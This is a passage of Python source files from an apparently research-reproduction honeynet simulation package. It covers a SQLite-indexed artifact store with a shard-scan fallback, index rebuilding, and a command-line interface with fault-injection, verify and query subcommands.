        if value is None:
            continue
        if name not in INDEX_COLUMNS:
            known = ", ".join(INDEX_COLUMNS)
            raise ValueError(f"unknown index column {name!r} (known: {known})")
        if isinstance(value, date):
            value = value.isoformat()
        elif hasattr(value, "value"):  # Protocol and friends
            value = value.value
        cleaned[name] = str(value)
    return cleaned


def snapshot_aggregates(store: "ArtifactStore") -> dict:
    """The headline aggregates a service snapshot is built from.

    One ``count_by`` per axis (the paper's per-day and per-label
    figures are exactly these groupings), plus the meta identity —
    everything :class:`repro.service.Snapshot` needs to describe an
    indexed tree, in one round trip per axis.
    """
    meta = store.meta()
    return {
        "sessions": meta.record_count,
        "content_digest": meta.content_digest,
        "by_day": store.count_by("day"),
        "by_label": store.count_by("rule_label"),
    }


def record_hash(session: SessionRecord) -> str:
    """Content hash of one record — exactly the dataset digest's
    per-record hashing (canonical sorted-key JSON of the session dict),
    so a row/record mismatch means the *content* diverged, not the
    serialization."""
    from repro.honeynet.io import session_to_dict

    return sha256_hex(
        json.dumps(
            session_to_dict(session), sort_keys=True, separators=(",", ":")
        )
    )


def content_digest(sessions: Iterable[SessionRecord]) -> str:
    """The dataset digest of ``sessions`` (database order), as stored in
    ``store_meta`` — equal to ``SessionDatabase(sessions).digest()`` so
    index meta and in-memory database can be compared directly."""
    from repro.honeynet.database import SessionDatabase

    return SessionDatabase(list(sessions)).digest()


def index_rows(
    sessions: Sequence[SessionRecord], source: str
) -> list[IndexRow]:
    """The index rows for one shard's clean record sequence.

    ``seq`` mirrors the shard's line sequence numbers (enumeration
    order), so a row points straight back at its ground-truth line.
    Rule labels come from the Table-1 classifier — computed once here at
    export time instead of per analysis run.
    """
    from repro.analysis.classify import DEFAULT_CLASSIFIER

    rows: list[IndexRow] = []
    for seq, session in enumerate(sessions):
        rows.append(
            IndexRow(
                session_id=session.session_id,
                day=epoch_date(session.start).isoformat(),
                sensor_id=session.honeypot_id,
                client_ip=session.client_ip,
                session_hash=record_hash(session),
                protocol=session.protocol.value,
                rule_label=DEFAULT_CLASSIFIER.classify(session),
                source=source,
                seq=seq,
            )
        )
    return rows
