"""Indexed artifact store: queryable persistence over JSONL ground truth.

JSONL shards with manifests (:mod:`repro.honeynet.io`) are crash-safe
but unqueryable at scale — answering "sessions from this IP on that
day" means parsing every line ever written.  This package adds a
pluggable :class:`~repro.store.base.ArtifactStore` interface with a
SQLite backend that indexes ``(day, sensor_id, client_ip,
session_hash, protocol, rule_label)`` at export time, so the paper's
per-IP / per-day / per-category lookups become index queries instead of
full scans.

The store is robustness-first, because a second persistence surface is
a second thing that can corrupt or desync:

* the JSONL shards remain the only ground truth — the index is a
  derived, disposable accelerator;
* ``store_meta`` carries the schema version, config fingerprint and a
  content digest, so a stale or foreign index is detected before use
  (:class:`~repro.store.base.StaleIndexError`);
* the first build is atomic (temp file + fsync + rename) and reads run
  in WAL mode, so a killed build never leaves a half-written index;
* every query consumer degrades to a full scan of the shards when the
  index is absent or damaged (:mod:`repro.store.resilient`), counted
  loudly on the ``store.fallback`` telemetry counter — never a crash,
  never a wrong answer;
* ``repro verify`` cross-checks index rows against the recovered shard
  records and ``repro verify --rebuild-index`` reconstructs a damaged
  index from verified shards (:func:`~repro.store.builder.rebuild_index`).

Layering: ``store`` composes ``analysis`` (rule labels), ``honeynet``
(shard IO) and ``integrity`` — it sits at the ``experiments`` layer;
nothing below it may import it except lazily (``repro.integrity.verify``
imports it inside the index-audit pass).
"""

from __future__ import annotations

from repro.store.base import (
    INDEX_FILE_NAME,
    STORE_SCHEMA_VERSION,
    ArtifactStore,
    IndexRow,
    StaleIndexError,
    StoreError,
    StoreMeta,
    content_digest,
    index_rows,
    snapshot_aggregates,
)
from repro.store.builder import (
    export_indexed_tree,
    index_path_for,
    load_tree_records,
    rebuild_index,
)
from repro.store.resilient import ResilientArtifactStore
from repro.store.sqlite import SqliteStore

__all__ = [
    "ArtifactStore",
    "INDEX_FILE_NAME",
    "IndexRow",
    "ResilientArtifactStore",
    "STORE_SCHEMA_VERSION",
    "SqliteStore",
    "StaleIndexError",
    "StoreError",
    "StoreMeta",
    "content_digest",
    "export_indexed_tree",
    "index_path_for",
    "index_rows",
    "load_tree_records",
    "rebuild_index",
    "snapshot_aggregates",
]
