"""Scan-fallback wrapper: index answers when possible, never a crash.

:class:`ResilientArtifactStore` is the store every query consumer
actually holds.  It answers from ``index.sqlite`` while the index is
present, intact and matches expectations; the moment any store
operation fails — absent file, failed ``quick_check``, stale
fingerprint or digest, a query error mid-flight — it degrades to the
ground truth: a lenient scan of the JSONL shards, from which the same
rows are recomputed in memory.  The switch is one-way for the lifetime
of the wrapper, counted loudly on the ``store.fallback`` telemetry
counter, and invisible to callers except through :attr:`source`.

Because scan rows are computed by the same
:func:`repro.store.base.index_rows` that built the index, a fallback
answer is never *different* from a healthy-index answer over the same
surviving records — degraded means slower, not wrong.
"""

from __future__ import annotations

from pathlib import Path

from repro import telemetry
from repro.store.base import (
    STORE_SCHEMA_VERSION,
    ArtifactStore,
    IndexRow,
    StoreError,
    StoreMeta,
    content_digest,
    index_rows,
    normalize_filters,
)
from repro.store.builder import index_path_for, shard_paths
from repro.store.sqlite import SqliteStore

_SCAN_COLUMNS = frozenset(IndexRow.__dataclass_fields__)


class ResilientArtifactStore(ArtifactStore):
    """An :class:`ArtifactStore` over an artifact tree that cannot fail.

    ``expected_fingerprint`` / ``expected_digest`` are forwarded to
    :meth:`SqliteStore.open`'s staleness gates; a mismatch triggers the
    same fallback as corruption (a stale index is treated as damage,
    because querying it would be *wrong*, not just slow).
    """

    def __init__(
        self,
        root: Path | str,
        *,
        expected_fingerprint: str | None = None,
        expected_digest: str | None = None,
    ) -> None:
        self.root = Path(root)
        self._expected_fingerprint = expected_fingerprint
        self._expected_digest = expected_digest
        self._store: SqliteStore | None = None
        self._opened = False
        self._cached_rows: list[IndexRow] | None = None
        self._cached_records: list | None = None
        self.fallback_reason: str | None = None

    # -- mode management ----------------------------------------------

    @property
    def source(self) -> str:
        """``"index"`` while the index is serving, ``"scan"`` after
        fallback, ``"unopened"`` before the first query."""
        if self.fallback_reason is not None:
            return "scan"
        if self._store is not None:
            return "index"
        return "unopened"

    def _index(self) -> SqliteStore | None:
        if self.fallback_reason is not None:
            return None
        if not self._opened:
            self._opened = True
            try:
                self._store = SqliteStore.open(
                    index_path_for(self.root),
                    expected_fingerprint=self._expected_fingerprint,
                    expected_digest=self._expected_digest,
                )
            except StoreError as error:
                self._fall_back(error)
        return self._store

    def _fall_back(self, error: StoreError) -> None:
        if self._store is not None:
            self._store.close()
            self._store = None
        self.fallback_reason = error.reason or "unknown"
        telemetry.count("store.fallback")
        telemetry.count(f"store.fallback.{self.fallback_reason}")

    def _scan(self) -> list[IndexRow]:
        """Recover the shards once and recompute the rows in memory."""
        if self._cached_rows is None:
            from repro.honeynet.io import recover_jsonl

            with telemetry.span("store.scan"):
                rows: list[IndexRow] = []
                records: list = []
                seen: set[str] = set()
                for shard in shard_paths(self.root):
                    recovered = recover_jsonl(shard)
                    fresh = [
                        record
                        for record in recovered.records
                        if record.session_id not in seen
                    ]
                    seen.update(record.session_id for record in fresh)
                    rows.extend(index_rows(fresh, source=shard.name))
                    records.extend(fresh)
                self._cached_rows = rows
                self._cached_records = records
        return self._cached_rows

    def _query(self, method: str, scan, *args, **filters):
        store = self._index()
        if store is not None:
            try:
                return getattr(store, method)(*args, **filters)
            except StoreError as error:
                self._fall_back(error)
        return scan(*args, **filters)

    # -- ArtifactStore surface ----------------------------------------

    def meta(self) -> StoreMeta:
        return self._query("meta", self._scan_meta)

    def count(self, **filters: object) -> int:
        return self._query("count", self._scan_count, **filters)

    def session_ids(self, **filters: object) -> list[str]:
        return self._query("session_ids", self._scan_session_ids, **filters)

    def rows(self, **filters: object) -> list[IndexRow]:
        return self._query("rows", self._scan_rows, **filters)

    def distinct(self, column: str, **filters: object) -> list[str]:
        return self._query("distinct", self._scan_distinct, column, **filters)

    def count_by(self, column: str, **filters: object) -> dict[str, int]:
        return self._query("count_by", self._scan_count_by, column, **filters)

    def close(self) -> None:
        if self._store is not None:
            self._store.close()
            self._store = None

    # -- the scan implementations (same semantics as SQLite) ----------

    def _match(self, filters: dict) -> list[IndexRow]:
        cleaned = normalize_filters(filters)
        rows = self._scan()
        if not cleaned:
            return list(rows)
        return [
            row
            for row in rows
            if all(
                getattr(row, column) == value
                for column, value in cleaned.items()
            )
        ]

    def _scan_meta(self) -> StoreMeta:
        rows = self._scan()
        return StoreMeta(
            schema_version=STORE_SCHEMA_VERSION,
            config_fingerprint="",
            content_digest=content_digest(self._cached_records or []),
            record_count=len(rows),
        )

    def _scan_count(self, **filters: object) -> int:
        return len(self._match(filters))

    def _scan_session_ids(self, **filters: object) -> list[str]:
        return sorted(row.session_id for row in self._match(filters))

    def _scan_rows(self, **filters: object) -> list[IndexRow]:
        return sorted(self._match(filters), key=lambda r: (r.source, r.seq))

    def _scan_distinct(self, column: str, **filters: object) -> list[str]:
        self._check_column(column)
        return sorted({getattr(row, column) for row in self._match(filters)})

    def _scan_count_by(self, column: str, **filters: object) -> dict[str, int]:
        self._check_column(column)
        counts: dict[str, int] = {}
        for row in self._match(filters):
            value = getattr(row, column)
            counts[value] = counts.get(value, 0) + 1
        return {value: counts[value] for value in sorted(counts)}

    def _check_column(self, column: str) -> None:
        if column not in _SCAN_COLUMNS:
            known = ", ".join(sorted(_SCAN_COLUMNS))
            raise ValueError(f"unknown index column {column!r} (known: {known})")

    # -- extras --------------------------------------------------------

    def records(self):
        """The surviving ground-truth records (scan path, cached)."""
        self._scan()
        return list(self._cached_records or [])

    def database(self):
        """A :class:`~repro.honeynet.database.SessionDatabase` over the
        surviving ground-truth records — the scan-path dataset loader."""
        from repro.honeynet.database import SessionDatabase

        return SessionDatabase(self.records())
