"""Building, exporting and rebuilding indexes over artifact trees.

An *indexed artifact tree* is a directory holding one or more JSONL
session shards (each with its sidecar manifest) plus one
``index.sqlite`` summarizing every record in them.  The shards are the
ground truth; the index is derived and disposable —
:func:`rebuild_index` reconstructs it from whatever the shards can
still prove, which is the ``repro verify --rebuild-index`` repair path.
"""

from __future__ import annotations

from pathlib import Path
from typing import Sequence

from repro import telemetry
from repro.honeypot.session import SessionRecord
from repro.integrity.quarantine import QUARANTINE_DIR_NAME
from repro.store.base import (
    INDEX_FILE_NAME,
    STORE_SCHEMA_VERSION,
    StoreMeta,
    content_digest,
    index_rows,
)
from repro.store.sqlite import SqliteStore


def index_path_for(root: Path | str) -> Path:
    """The conventional index location for an artifact tree."""
    return Path(root) / INDEX_FILE_NAME


def shard_paths(root: Path | str) -> list[Path]:
    """The JSONL shards an index at ``root`` covers, in name order.

    Only shards directly under ``root`` count; the quarantine store's
    own JSONL index is provenance, not session data.
    """
    root = Path(root)
    return sorted(
        path
        for path in root.glob("*.jsonl")
        if QUARANTINE_DIR_NAME not in path.parts
    )


def load_tree_records(
    root: Path | str,
) -> tuple[list[SessionRecord], int]:
    """Recover every record the tree's shards can still prove.

    Lenient, scan-only (no quarantine writes): damaged lines are
    skipped, duplicates deduplicated, order repaired — exactly the
    ground-truth view ``repro verify`` audits against.  Returns the
    records (shard name order, deduplicated across shards by session
    id) and the number of records the shards lost.
    """
    from repro.honeynet.io import recover_jsonl

    records: list[SessionRecord] = []
    seen: set[str] = set()
    lost = 0
    for shard in shard_paths(root):
        recovered = recover_jsonl(shard)
        lost += recovered.report.lost
        for record in recovered.records:
            if record.session_id in seen:
                continue
            seen.add(record.session_id)
            records.append(record)
    return records, lost


def build_index(
    sessions: Sequence[SessionRecord],
    path: Path | str,
    *,
    source: str,
    config_fingerprint: str = "",
) -> SqliteStore:
    """Build the index for one shard's clean record sequence."""
    rows = index_rows(sessions, source=source)
    meta = StoreMeta(
        schema_version=STORE_SCHEMA_VERSION,
        config_fingerprint=config_fingerprint,
        content_digest=content_digest(sessions),
        record_count=len(rows),
    )
    return SqliteStore.build(path, rows, meta)


def export_indexed_tree(
    sessions: Sequence[SessionRecord],
    root: Path | str,
    *,
    shard_name: str = "sessions.jsonl",
    config=None,
    corruptor=None,
    index_corruptor=None,
) -> Path:
    """Write a complete indexed artifact tree for ``sessions``.

    Writes the JSONL shard (with manifest) and builds ``index.sqlite``
    from the same *clean* record sequence — like the manifest, the index
    records what the writer meant, before any injected storage-path
    corruption (``corruptor`` damages the shard, ``index_corruptor``
    damages the index; both model faults *after* a faithful write).
    Returns the index path.
    """
    from repro.honeynet.io import write_jsonl

    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    write_jsonl(sessions, root / shard_name, corruptor=corruptor)
    fingerprint = ""
    if config is not None:
        from repro.faults.checkpoint import config_fingerprint

        fingerprint = config_fingerprint(config)
    index_path = index_path_for(root)
    store = build_index(
        sessions, index_path, source=shard_name, config_fingerprint=fingerprint
    )
    store.close()
    if index_corruptor is not None:
        index_corruptor.maybe_corrupt(index_path, key=0)
    return index_path


def rebuild_index(root: Path | str) -> tuple[Path, int]:
    """Reconstruct a tree's index from its verified shards.

    The repair path behind ``repro verify --rebuild-index``: recover
    every record the shards can prove, rebuild the rows, and atomically
    replace whatever index file was there (corrupt, stale or absent).
    The rebuilt meta carries no config fingerprint — the shards alone
    cannot prove one — but its content digest matches the recovered
    records exactly, so the next audit passes iff the rebuild is
    faithful.  Returns the index path and the indexed record count.
    """
    root = Path(root)
    shards = shard_paths(root)
    if not shards:
        raise FileNotFoundError(f"no JSONL shards under {root} to rebuild from")
    from repro.honeynet.io import recover_jsonl

    index_path = index_path_for(root)
    # Per-shard rows keep (source, seq) pointing at real lines; records
    # duplicated across shards keep their first shard's row.
    all_rows = []
    all_records: list[SessionRecord] = []
    seen: set[str] = set()
    with telemetry.span("store.rebuild"):
        for shard in shards:
            recovered = recover_jsonl(shard)
            fresh = [
                record
                for record in recovered.records
                if record.session_id not in seen
            ]
            seen.update(record.session_id for record in fresh)
            all_rows.extend(index_rows(fresh, source=shard.name))
            all_records.extend(fresh)
        meta = StoreMeta(
            schema_version=STORE_SCHEMA_VERSION,
            config_fingerprint="",
            content_digest=content_digest(all_records),
            record_count=len(all_rows),
        )
        # A corrupt index may not be openable at all; remove leftovers
        # (including WAL sidecars) so the atomic build starts clean.
        for leftover in (
            index_path.with_name(index_path.name + "-wal"),
            index_path.with_name(index_path.name + "-shm"),
        ):
            leftover.unlink(missing_ok=True)
        store = SqliteStore.build(index_path, all_rows, meta)
        store.close()
    telemetry.count("store.rebuilds")
    telemetry.count("store.rebuild.rows", len(all_rows))
    return index_path, len(all_rows)
