"""Command-line interface: ``python -m repro.cli <command>``.

Subcommands:

* ``stats``       — simulate and print the dataset statistics.
* ``experiments`` — run (a subset of) the experiments and print reports.
* ``export``      — run experiments and write their data as JSON/CSV.
* ``report``      — regenerate the EXPERIMENTS.md comparison document.
* ``faults``      — simulate under a fault profile and print the
  resilience report (fault plan, collector accounting, coverage).
* ``bench``       — time the serial vs parallel engines (day-loop and
  DLD matrix), plus telemetry on-vs-off overhead, and optionally
  record the numbers as JSON.
* ``telemetry``   — run the pipeline with telemetry enabled and print
  the run report (see docs/observability.md).
* ``verify``      — audit a dataset/checkpoint tree (manifests,
  checksums, quarantine, index cross-check) and exit non-zero on
  unexplained discrepancies; ``--rebuild-index`` repairs a damaged
  ``index.sqlite`` from verified shards (see docs/fault-model.md).
* ``query``       — query a persisted artifact tree through the
  indexed store, with automatic shard-scan fallback when the index
  is damaged (see docs/architecture.md).
* ``stream``      — run the window through the supervised stream
  engine and print the supervision report (degraded-mode timeline,
  breaker transitions, queue/coverage stats); ``--verify-replay``
  additionally proves the digest equals a batch run of the same
  config (see docs/streaming.md).

Every subcommand accepts ``--fault-profile {none,paper,stress}``; the
default ``paper`` models exactly the deployment the paper describes.
``--flood-profile {off,burst,storm}`` layers the overload fault domain
(scan floods + admission control with deterministic load shedding) on
top of whatever fault profile is active; ``off`` (the default) is
byte-identical to the pre-overload pipeline.  ``--workers N`` switches
every stage that supports it to the parallel engine (see
docs/parallelism.md); the output is identical at any N.
``--shard-deadline-s S`` arms the hung-worker watchdog for parallel
runs (soft warning at S/2, cancellation + retry at S).  ``--telemetry
[PATH]`` collects metrics/spans for the run and writes them as JSON —
purely observational, outputs are byte-identical with it on or off.
"""

from __future__ import annotations

import argparse
import sys
from datetime import date
from pathlib import Path

from repro.config import BENCH_CONFIG, DEFAULT_CONFIG, SimulationConfig
from repro.faults.plan import FaultProfile, FloodFaults

#: Profile names accepted by ``--fault-profile``.
FAULT_PROFILES = ("none", "paper", "stress")

#: Preset names accepted by ``--flood-profile``.
FLOOD_PROFILES = ("off", "burst", "storm")


def _add_common(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--scale", type=float, default=DEFAULT_CONFIG.scale)
    parser.add_argument("--seed", type=int, default=DEFAULT_CONFIG.seed)
    parser.add_argument(
        "--fault-profile",
        choices=FAULT_PROFILES,
        default="paper",
        help="fault-injection profile (see docs/fault-model.md)",
    )
    parser.add_argument(
        "--flood-profile",
        choices=FLOOD_PROFILES,
        default="off",
        help="overload preset: scan floods + admission control "
        "(see docs/fault-model.md)",
    )
    parser.add_argument(
        "--workers",
        type=int,
        default=DEFAULT_CONFIG.workers,
        help="worker processes for the parallel engine (1 = serial; "
        "see docs/parallelism.md)",
    )
    parser.add_argument(
        "--shard-deadline-s",
        type=float,
        default=None,
        metavar="S",
        help="hung-worker watchdog: hard wall-clock deadline per shard "
        "attempt for parallel runs (default: no deadline)",
    )
    parser.add_argument(
        "--telemetry",
        type=Path,
        nargs="?",
        const=Path("telemetry.json"),
        default=None,
        metavar="PATH",
        help="collect run telemetry and write it as JSON (default "
        "PATH: telemetry.json; see docs/observability.md)",
    )


def _config(args: argparse.Namespace) -> SimulationConfig:
    import dataclasses

    faults = FaultProfile.from_name(getattr(args, "fault_profile", "paper"))
    flood_name = getattr(args, "flood_profile", "off")
    if flood_name != "off":
        faults = dataclasses.replace(
            faults, flood=FloodFaults.from_name(flood_name)
        )
    return SimulationConfig(
        scale=args.scale,
        seed=args.seed,
        faults=faults,
        workers=getattr(args, "workers", 1),
        shard_deadline_s=getattr(args, "shard_deadline_s", None),
    )


def _telemetry_meta(args: argparse.Namespace) -> dict:
    """Run identification recorded in every telemetry document."""
    return {
        "command": args.command,
        "seed": getattr(args, "seed", DEFAULT_CONFIG.seed),
        "scale": getattr(args, "scale", DEFAULT_CONFIG.scale),
        "fault_profile": getattr(args, "fault_profile", "paper"),
        "flood_profile": getattr(args, "flood_profile", "off"),
        "workers": getattr(args, "workers", 1),
    }


def cmd_stats(args: argparse.Namespace) -> int:
    from repro.experiments.dataset import build_dataset
    from repro.experiments.runner import get_experiment, load_all_experiments

    load_all_experiments()
    dataset = build_dataset(_config(args))
    print(get_experiment("table_stats").run(dataset).render())
    return 0


def cmd_experiments(args: argparse.Namespace) -> int:
    from repro.experiments.base import REGISTRY, get_experiment
    from repro.experiments.dataset import build_dataset
    from repro.experiments.runner import load_all_experiments

    load_all_experiments()
    unknown = set(args.only or []) - set(REGISTRY)
    if unknown:
        print(f"unknown experiment ids: {sorted(unknown)}", file=sys.stderr)
        return 2
    dataset = build_dataset(_config(args))
    for experiment_id in args.only or list(REGISTRY):
        result = get_experiment(experiment_id).run(dataset)
        print(result.render())
        if args.charts:
            from repro.reporting.figures import render_figure

            chart = render_figure(result)
            if chart:
                print()
                print(chart)
        print()
    return 0


def cmd_export(args: argparse.Namespace) -> int:
    from repro.experiments.base import REGISTRY, get_experiment
    from repro.experiments.dataset import build_dataset
    from repro.experiments.runner import load_all_experiments

    load_all_experiments()
    dataset = build_dataset(_config(args))
    args.out.mkdir(parents=True, exist_ok=True)
    for experiment_id in args.only or list(REGISTRY):
        result = get_experiment(experiment_id).run(dataset)
        if args.format == "json":
            path = args.out / f"{experiment_id}.json"
            path.write_text(result.to_json())
        elif args.format == "csv":
            path = args.out / f"{experiment_id}.csv"
            path.write_text(result.to_csv())
        else:
            from repro.reporting.svg import render_svg, svg_heatmap

            if experiment_id == "fig05":
                clustering = dataset.clustering()
                from repro.analysis.clusterlabel import sorted_distance_matrix

                document = svg_heatmap(
                    sorted_distance_matrix(
                        clustering.matrix, clustering.result, clustering.profiles
                    ),
                    title="fig05: cluster-sorted normalized DLD matrix",
                )
            else:
                document = render_svg(result)
            if document is None:
                print(f"skipped {experiment_id} (no numeric view)")
                continue
            path = args.out / f"{experiment_id}.svg"
            path.write_text(document)
        print(f"wrote {path}")
    return 0


def cmd_faults(args: argparse.Namespace) -> int:
    """Run the simulation and print the fault/resilience report."""
    from repro.attackers.orchestrator import run_simulation
    from repro.util.text import format_table

    config = _config(args)
    result = run_simulation(
        config,
        checkpoint_path=args.checkpoint,
        checkpoint_every_days=args.checkpoint_every,
        resume=args.resume,
        stop_after=args.stop_after,
    )
    profile = config.faults

    print(f"== fault profile: {profile.name} ==")
    for window in profile.outages:
        print(f"fleet outage: {window.start}..{window.end} ({window.days}d)")
    if profile.has_churn:
        print(
            f"sensor churn: {profile.crashes_per_sensor_year:g} crashes/"
            f"sensor-year, mean downtime {profile.crash_downtime_mean_days:g}d "
            f"-> {len(result.plan.downtimes)} crash windows, "
            f"{result.plan.sensor_down_day_count} sensor-days down"
        )
    transport = profile.transport
    if not transport.lossless:
        print(
            f"transport: fail {transport.failure_probability:.1%} + corrupt "
            f"{transport.corruption_probability:.1%} per attempt, duplicates "
            f"{transport.duplicate_probability:.1%}, "
            f"{transport.max_attempts} attempts"
        )
    flood = profile.flood
    if not flood.inert:
        budget = (
            f"budget {flood.daily_session_budget}/day"
            if flood.gates
            else "unbounded admission"
        )
        print(
            f"flood: {flood.burst_probability:.0%} of days burst "
            f"{flood.burst_sessions} sessions, {budget}, queue "
            f"{flood.sensor_queue_capacity}/sensor, shed "
            f"p={flood.shed_probability:.0%} for command sessions"
        )

    print()
    print("== collector accounting ==")
    accounting = result.collector.accounting()
    print(
        format_table(
            ["counter", "value"],
            [[key, value] for key, value in accounting.items()],
        )
    )
    balanced = result.collector.accounting_balanced()
    print(f"conservation law holds: {balanced}")
    if result.collector.shed:
        shed = result.collector.shed
        generated = accounting["generated"]
        print(
            f"admission control: {result.collector.admitted} admitted, "
            f"{result.collector.deferred} deferred, {shed} shed "
            f"({shed / generated:.1%} of generated)"
        )
    stats = result.channel.stats
    if stats.attempts:
        print(
            f"transport: {stats.attempts} attempts, "
            f"{stats.transient_failures} transient failures, "
            f"{stats.corrupt_deliveries} corrupt, "
            f"{stats.duplicate_deliveries} duplicate deliveries, "
            f"{stats.simulated_backoff_s:.1f}s simulated backoff"
        )

    print()
    print("== coverage ==")
    coverage = result.coverage
    print(f"overall: {coverage.overall_fraction:.2%} of sensor-days observed")
    gaps = coverage.gap_months()
    if gaps:
        rows = [
            [
                month,
                coverage.months[month].observed_sensor_days,
                coverage.months[month].total_sensor_days,
                f"{coverage.months[month].fraction:.1%}",
            ]
            for month in gaps
        ]
        print(format_table(["gap month", "observed", "scheduled", "frac"], rows))
    worst = [
        (hp, frac) for hp, frac in coverage.worst_sensors() if frac < 1.0
    ]
    if worst:
        print(
            "worst sensors: "
            + ", ".join(f"{hp} ({frac:.1%})" for hp, frac in worst)
        )
    if args.export is not None:
        from repro.faults.corruption import build_log_corruptor
        from repro.honeynet.io import write_jsonl
        from repro.util.rng import RngTree

        corruptor = build_log_corruptor(
            profile.integrity,
            RngTree(config.seed).child(
                "faults", "integrity", "log", args.export.name
            ),
        )
        count = write_jsonl(
            result.database.sessions, args.export, corruptor=corruptor
        )
        print()
        flavor = (
            "with injected corruption (recover via lenient read / "
            "repro verify)" if corruptor is not None else "clean"
        )
        print(f"exported {count} records to {args.export} (+manifest), {flavor}")
        if args.index:
            from repro.faults.checkpoint import config_fingerprint
            from repro.faults.corruption import (
                build_index_corruptor,
                corrupt_index,
            )
            from repro.store.builder import build_index, index_path_for

            store = build_index(
                result.database.sessions,
                index_path_for(args.export.parent),
                source=args.export.name,
                config_fingerprint=config_fingerprint(config),
            )
            rows = store.count()
            store.close()
            index_path = index_path_for(args.export.parent)
            applied = None
            if args.corrupt_index is not None:
                # Forced damage for smoke tests: always applied, with
                # seeded byte choices so reruns damage identically.
                rng = RngTree(config.seed).child(
                    "faults", "integrity", "index", args.export.name, "forced"
                ).rand()
                corrupt_index(index_path, args.corrupt_index, rng)
                applied = args.corrupt_index
            else:
                index_corruptor = build_index_corruptor(
                    profile.integrity,
                    RngTree(config.seed).child(
                        "faults", "integrity", "index", args.export.name
                    ),
                )
                if index_corruptor is not None:
                    applied = index_corruptor.maybe_corrupt(index_path, key=0)
            flavor = (
                f"then damaged ({applied}; repair via repro verify "
                "--rebuild-index)" if applied else "clean"
            )
            print(f"indexed {rows} records into {index_path}, {flavor}")

    print()
    print(f"dataset digest: {result.database.digest()}")
    return 0 if balanced else 1


def cmd_verify(args: argparse.Namespace) -> int:
    """Audit an artifact tree.

    Exit codes: ``0`` — clean (every discrepancy recovered or
    explained); ``1`` — unexplained *data* damage; ``2`` — the path does
    not exist, or only derived index artifacts failed (ground truth
    intact: consumers run via scan fallback, and ``--rebuild-index``
    repairs it — which re-audits and returns 0 on success).
    """
    from repro.integrity.verify import audit_tree

    if not args.path.exists():
        print(f"no such path: {args.path}", file=sys.stderr)
        return 2
    audit = audit_tree(args.path, quarantine=args.quarantine)
    if args.rebuild_index and audit.index_damaged and args.path.is_dir():
        from repro.store import rebuild_index

        try:
            index_path, rows = rebuild_index(args.path)
        except FileNotFoundError as error:
            print(f"cannot rebuild index: {error}", file=sys.stderr)
        else:
            print(f"rebuilt {index_path} from shards ({rows} rows); re-auditing")
            audit = audit_tree(args.path, quarantine=args.quarantine)
    print(audit.render())
    if args.json is not None:
        args.json.write_text(audit.to_json() + "\n")
        print(f"wrote {args.json}")
    if audit.ok:
        return 0
    if audit.data_ok and audit.index_damaged:
        return 2
    return 1


def cmd_query(args: argparse.Namespace) -> int:
    """Query a persisted artifact tree through the indexed store.

    The smoke surface for :mod:`repro.store`: equality filters over the
    indexed columns, answered from ``index.sqlite`` when it is intact
    and from the shard-scan fallback otherwise — the answer is the same
    either way; only the reported ``source`` differs.
    """
    from repro.store import ResilientArtifactStore
    from repro.util.text import format_table

    if not args.path.exists():
        print(f"no such path: {args.path}", file=sys.stderr)
        return 2
    filters = {
        name: value
        for name, value in (
            ("day", args.day),
            ("sensor_id", args.sensor),
            ("client_ip", args.client_ip),
            ("protocol", args.protocol),
            ("rule_label", args.rule_label),
        )
        if value is not None
    }
    store = ResilientArtifactStore(args.path)
    try:
        if args.by is not None:
            counts = store.count_by(args.by, **filters)
            print(
                format_table(
                    [args.by, "sessions"],
                    [[value, count] for value, count in counts.items()],
                )
            )
            total = sum(counts.values())
        else:
            total = store.count(**filters)
        described = (
            ", ".join(f"{k}={v}" for k, v in sorted(filters.items()))
            or "no filters"
        )
        print(f"{total} sessions match ({described})")
        if args.ids:
            for session_id in store.session_ids(**filters):
                print(session_id)
        meta = store.meta()
        print(
            f"source: {store.source} (index schema v{meta.schema_version}, "
            f"{meta.record_count} records indexed)"
        )
        if store.source == "scan":
            print(
                f"note: index unusable ({store.fallback_reason}); answered "
                "from shard scan — repair with repro verify --rebuild-index"
            )
    finally:
        store.close()
    return 0


def cmd_telemetry(args: argparse.Namespace) -> int:
    """Build the dataset with telemetry on and print the run report."""
    from repro import telemetry
    from repro.experiments.dataset import build_dataset
    from repro.experiments.runner import run_all

    config = _config(args)
    with telemetry.collecting(profile=args.profile) as registry:
        dataset = build_dataset(config)
        if args.experiments:
            run_all(dataset)
    meta = _telemetry_meta(args)
    meta["experiments"] = args.experiments
    document = telemetry.telemetry_document(registry, meta=meta)
    print(telemetry.run_report_markdown(document))
    if args.json is not None:
        telemetry.write_telemetry_json(args.json, registry, meta=meta)
        print(f"wrote {args.json}")
    return 0


#: Default regression floors for ``repro bench --enforce``.
SPEEDUP_FLOOR = 1.8
TELEMETRY_BAR_PCT = 5.0
#: Floors for the sketch-prefilter scenario (single-process pruning
#: wins, so they apply at any core count): the pruned matrix must beat
#: the extrapolated exact build ≥5×, keep the candidate ratio under
#: 0.25, and retain ≥95% of the DLD-close pairs in the measured set.
SKETCH_SPEEDUP_FLOOR = 5.0
SKETCH_RATIO_BAR = 0.25
SKETCH_RECALL_FLOOR = 0.95
#: Floors for the query-service scenario: repeated-query load must hit
#: the read-through cache at least this often, and no request may go
#: unserved (outside the ok/rejected/stale contract) while a snapshot
#: exists — in any service scenario, breaker-open included.
SERVICE_CACHE_FLOOR = 0.9


def check_bench_floors(
    report: dict,
    speedup_floor: float = SPEEDUP_FLOOR,
    telemetry_bar_pct: float = TELEMETRY_BAR_PCT,
    sketch_speedup_floor: float = SKETCH_SPEEDUP_FLOOR,
    sketch_ratio_bar: float = SKETCH_RATIO_BAR,
    sketch_recall_floor: float = SKETCH_RECALL_FLOOR,
    service_cache_floor: float = SERVICE_CACHE_FLOOR,
) -> list[str]:
    """Regression-floor violations in a bench report (empty = healthy).

    Floors guard the perf trajectory: parallel day-loop speedup at the
    benched worker count, telemetry overhead on the serial engine, and
    — when the report has a ``sketch`` block — the LSH prefilter's
    speedup, candidate ratio and close-pair recall.  The day-loop
    speedup floor only applies on multi-core machines — on a single
    core, parallel execution cannot beat serial by construction, so the
    floor would only measure the box, not the code.  The telemetry bar
    and the sketch floors apply everywhere (pruning wins are
    single-process).
    """
    violations: list[str] = []
    day = report.get("day_loop", {})
    if (report.get("cpu_count") or 1) >= 2:
        speedup = day.get("speedup", 0.0)
        if speedup < speedup_floor:
            violations.append(
                f"day-loop speedup {speedup:.2f}x at "
                f"{report.get('workers')} workers is below the "
                f"{speedup_floor:.2f}x floor"
            )
    overhead = report.get("telemetry", {}).get("overhead_pct", 0.0)
